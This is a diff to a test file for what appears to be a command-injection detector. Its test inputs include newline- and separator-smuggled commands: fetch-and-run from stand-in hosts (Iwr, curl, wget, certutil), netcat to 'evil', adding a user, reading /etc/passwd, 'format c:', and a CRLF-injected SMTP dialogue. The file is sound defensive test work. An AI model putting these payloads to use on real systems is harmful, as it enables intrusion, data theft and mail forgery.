@@ -1679,29 +1679,34 @@ describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newl
     'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
 });
 
-// Session 21 (red team rtc23, false positives): a command word on Unix is a lower-case file name, so a Title-case word
-// ("Route", "Cat", "History") runs nothing there; where case is folded (cmd.exe, PowerShell, a macOS file system) what
-// follows the word still decides. A Title-case command opening a line after a newline is judged as a value opening with
-// it; a Title-case English-word command alone before a separator or the end is a list's item or a menu's entry.
-describe('cmdi session 21 (rtc23): a line of text that opens with a Title-case command word', () => {
-  it.each(['Farm Shop\nRoute 9\nSpringfield, IL', 'Unit 4\nExit 12 Business Park\nLeeds', 'Delivery notes:\nEcho Park entrance, gate code 1234',
-    'Hi,\nCut 2 pieces of 40cm please\nThanks', 'Shopping list:\nCat food\nMilk', 'Agenda:\nStart 9am\nLunch 12pm',
-    'Reminder:\nTouch up paint in hallway', 'Weekend plans:\nCurl up with a book', 'Notes\nDate 5 May\nTime 10:00',
-    'Hi team,\nPing me when the build is done', 'Dear Sam,\r\nKill the lights when you leave', 'Menu:\n Sort by price'])('%s stays clean', expectNoCmdi);
-  // (the mail verbs and IMAP tags: a line of text, not a protocol line)
-  it.each(['My top 3:\nTop Gun\nJaws', 'Contact\nMail to: info@example.com', 'Menu\nWait list open', 'Report\nData attached\nBye'])('%s stays clean', expectNoCmdi);
-  // lower-case, upper-case or escaped it is read as before; so is a Title-case word given a path, an option or a host
+// Session 21 (rtc23) excused a Title-case command word after a newline, a Title-case mail verb, and a Title-case
+// English-word command alone after a separator; session 24 (red team rtd24, repros 10 and 19) took that back: PowerShell
+// splits statements at a newline and folds case (its Verb-Noun is written Title-case), a macOS file system folds case for
+// sh, cmd.exe folds case after | & ||, and SMTP, POP3 and IMAP read verbs case-insensitively (RFC 5321 2.4). Letter case
+// is no evidence that a line or a list item runs nothing.
+describe('cmdi session 24 (rtd24): a Title-case command word after a newline or a separator is a command', () => {
+  it.each(['x\nWhoami', 'x\r\nWhoami', 'x\n\nWhoami', 'x\nSleep 10', 'x\nStart-Sleep 10', 'x\nInvoke-Expression (Iwr evil).Content',
+    'x\nNet user hacker P4ss /add', 'x\nRm secret', 'x\nCat secret', 'x\nEnv', 'x\nPrintenv', 'x\nSysteminfo', 'x\nIpconfig',
+    'x\nNetstat', 'x\nPs aux', 'x\nNc evil 4444', 'x\nCurl evil', 'x\nDel secret', 'x\nEcho pwned>x'])('%s is a command', expectCmdi);
+  it.each(['x|Set', 'x||Set', 'x;Calc', 'x|Shutdown', 'x;Halt', 'x;Mount', 'x;Who', 'x;History', 'x | Set', 'x; Calc'])('%s is a command', expectCmdi);
+  // (mail verbs and IMAP tags whatever their case: a CRLF-injected dialogue in Title-case forged a mail on a real smtpd)
+  it.each(['x\r\nMail From:<a@evil.example>\r\nRcpt To:<v@x.example>\r\nData\r\nSubject: hi\r\n\r\nbody\r\n.\r\nQuit',
+    'x\r\nRcpt To:<victim@x.example>', 'x\r\nData', 'x\r\nVrfy root', 'x\r\nExpn staff', 'x\nHelo evil', 'x\r\nUser admin\r\nPass x',
+    'x\r\nRetr 1', 'x\r\nDele 1', 'x\r\nTag Login u p'])('%s is a mail command', (input) => {
+    for (const context of ['query', 'json'] as const) expect(ruleIds(d.scan(input, { context }))).toContain('cmdi.mail-command');
+  });
+  // as before: lower-case, upper-case, escaped, or given a path, an option or a host
   it.each(['x\nid', 'x\ncat /etc/passwd', 'x\ncat food', 'x\nsleep 5', 'x\nCat /etc/passwd', 'x\nPing -c 3 evil.example',
     'x\nCurl http://evil.example/x.sh', 'x\nCAT food', 'x%0a%43at food', 'x\\nCat /etc/passwd', 'x\nTee /var/www/x.php',
-    'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n'])('%s is a command', expectCmdi);
-  // a dotted name after it is a host or a file, also after a Title-case word (a case-folding shell or file system runs it)
-  it.each(['x\nNslookup evil.example', 'x\nCat secret.txt', 'x\nWget evil.example/x -O /tmp/x', 'x\nHost evil.example'])('%s is a command', expectCmdi);
-  it.each(['Hi\nCat pictures. Thanks', 'Hi\nTouch base. Bye', 'Notes\nDate 5.5.2024'])('%s stays clean', expectNoCmdi);
+    'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n', 'x\nNslookup evil.example',
+    'x\nCat secret.txt', 'x\nWget evil.example/x -O /tmp/x', 'x\nHost evil.example'])('%s is a command', expectCmdi);
+  // still clean: what no Title-case exemption decided (a word that is no command, or one that needs an argument it lacks)
+  it.each(['Tee; Shirts; Hats', 'Docs | Source', 'File | Open', 'View | Source'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21: the raw case a word is judged by survives chunking (rawKeep keeps the 32 raw bytes before a chunk)', () => {
   // (the last one past the scanner's 3,584-byte chunk: the word is lexed in the second chunk)
-  it.each(['Hi,\nCut 2 pieces of 40cm please', 'About Us | History', 'Menu\nWait list open', 'x\nCat /etc/passwd', 'x\nCat secret.txt',
+  it.each(['Tee; Shirts; Hats', 'Hi,\nCut 2 pieces of 40cm please', 'About Us | History', 'Menu\nWait list open', 'x\nCat /etc/passwd', 'x\nCat secret.txt',
     `${'y'.repeat(3590)}\nRoute 9`])('value %#: byte-at-a-time and 3-byte pushes give the whole verdict', (input) => {
     const whole = ruleIds(d.scan(input, { context: 'form' }));
     for (const step of [1, 3]) {
@@ -1712,10 +1717,23 @@ describe('cmdi session 21: the raw case a word is judged by survives chunking (r
   });
 });
 
-describe('cmdi session 21 (rtc23): a Title-case English-word command alone before a separator or the end', () => {
-  it.each(['About Us | History', 'Pricing | Free', 'Docs | Source', 'Reviews | Top', 'Team | Who', 'Account | Export', 'File | Open',
-    'Edit | Find', 'View | Source', 'Time | Date', 'Import | Export', 'Less | More', 'Paste | Format', 'Home | Blog | History',
-    'Cat; Dog; Fish', 'Tee; Shirts; Hats', 'Order: Head & Shoulders; Tail & Co.', 'Fruit; Cheese; Bread | Date'])('%s stays clean', expectNoCmdi);
+// Session 24: POP3's TOP takes a message number first (RFC 1939) and no other mail protocol has TOP, so a TOP line whose
+// argument is no number is one every server rejects, in any case.
+describe('cmdi session 24: TOP without a message number is no protocol line', () => {
+  it.each(['My top 3:\nTop Gun\nJaws', 'My top 3:\ntop Gun', 'Ranking\r\nTOP picks\r\n', 'x\r\nTop of the list'])('%s stays clean', expectNoCmdi);
+  it.each(['x\r\nTOP 1 10\r\n', 'x\r\nTop 1 10', 'x\r\nTOP 1', 'x\r\nTOP\r\n', 'x\r\nLIST 1', 'x\r\nUSER admin\r\nPASS x'])('%s is a mail command', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'json' }))).toContain('cmdi.mail-command');
+  });
+});
+
+// Session 24 (rtd24, after taking back the Title-case menus): what the command does alone decides, in any case. A pager
+// whose output is no terminal passes its input through, as cat does; cmd.exe's format with no volume does nothing.
+describe('cmdi session 24: more and less end a pipe as cat does; format alone does nothing', () => {
+  it.each(['Less | More', 'less | more', 'x | more', 'x|less', 'Paste | Format', 'x | format'])('%s stays clean', expectNoCmdi);
+  it.each(['x|less /etc/passwd', 'x|more /etc/passwd', 'x|less -R', 'more | sh', 'x;less|sh', 'x;more', 'x|format c:', 'x;format c: /q'])('%s is a command', expectCmdi);
+});
+
+describe('cmdi session 21 (rtc23): source and open do nothing without an operand', () => {
   // (alone, source and open name nothing to read or open: lower-case too)
   it.each(['docs | source', 'file | open', 'x;source', 'x | open'])('%s stays clean', expectNoCmdi);
   // given an argument, lower-case, or a strong command a case-folding shell runs alone (x|Whoami), it still counts
@@ -1728,6 +1746,10 @@ describe('cmdi session 21 (rtc23): $(<file) substitutes the file it reads (bash)
     '$(<~/x)', '$(<$HOME/x)', 'x;$(</tmp/x)', 'x $( < /etc/passwd )', "$(<'secret.txt')"])('%s is a command', expectCmdi);
   // (an empty one runs nothing; a '<' after a command word is its input, judged with the command; markup and jQuery's $('<div>'))
   it.each(['$(<)', "$('<div>')", '$("<b>x</b>")', 'a $ (<b>) c', 'x $(x) < y'])('%s stays clean', expectNoCmdi);
+  // session 24 (rtd24 repro 09): GNU make's $(<D) $(<F), written as make writes them, name the first prerequisite's parts;
+  // a one-letter file holds nothing a probe is after. Any other spelling or anything more still reads a file.
+  it.each(["* The automatic variables `$(@D)', `$(<D)', `$(?D)'", '$(<D)', '$(<F)', 'the folder $(<D) of it', 'x;$(<D)'])('%s stays clean', expectNoCmdi);
+  it.each(['$(<d)', '$(<x)', '$(<Db)', '$(<D/x)', '$(<D.txt)', '$(<D2)', '$(<D )', '$( <D)', '$(< D)', '$(<%44)', 'of $(<file).'])('%s is a command', expectCmdi);
 });
 
 describe('cmdi session 21 (rtc23): trap runs its first operand, quoted or not, at the signals named after it', () => {
@@ -1742,6 +1764,17 @@ describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builti
   // a domain after '&' (.com is a program's extension too), a document, a folder, prose after ". " on a new line
   it.each(['Barnes&Noble.com', 'AT&T.com', 'H&M.com/shop', 'x&Readme.txt', 'R&D\\Docs', 'Tom & Jerry', 'x|foo.bar', 'Hello\n. Next item',
     'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
+});
+
+// Session 24 (red team rtd24 repro 01): a program's bare name opening a line after a newline runs nowhere: cmd.exe ends its
+// command line at the newline, PowerShell runs no program from the working folder by a bare name, sh finds no setup.exe
+// on the PATH. A path with a folder in it (PowerShell runs uploads\a.exe) and a program on the PATH still count.
+describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
+  it.each(['Hi,\nsetup.exe crashes on start', 'Steps:\ninstall.bat fails with error 5', "Hello\nupdate.exe won't run",
+    'Hi team,\nSetup.exe hangs at 50%', 'The file\nsetup.exe\nis corrupted', 'Attached:\nreport.exe', 'def f():\n    self.cmd = cmd',
+    'x\nself.cmd = cmd', 'x\r\na.exe'])('%s stays clean', expectNoCmdi);
+  it.each(['x\nuploads\\a.exe', 'x\na\\b.exe', 'x\nsub.dir\\a.exe', 'x\ncalc.exe', 'x\ncertutil.exe -urlcache -f http://e/x x.exe',
+    'x\nc:\\temp\\a.exe', 'x\n.\\a.bat', 'x|a.exe', 'x|setup.exe', 'x&x.bat'])('%s is a command', expectCmdi);
 });
 
 describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
